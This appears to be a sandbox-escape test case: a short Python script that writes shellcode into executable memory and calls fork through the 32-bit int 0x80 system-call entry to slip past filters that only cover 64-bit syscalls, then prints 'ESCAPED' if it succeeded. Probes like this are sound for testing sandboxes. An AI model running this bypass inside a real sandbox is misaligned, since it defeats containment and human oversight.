# class: leak
# Forks by the 32-bit entry to the kernel.
import ctypes,mmap,os,platform
if platform.machine()=="x86_64":
    m=mmap.mmap(-1,4096,prot=7); m.write(bytes.fromhex("53 b802000000 cd80 5b c3")); p=os.getpid()
    r=ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()
    if os.getpid()!=p: os._exit(0)
    if r>0: os.waitpid(r,0); print("ESCAPED")
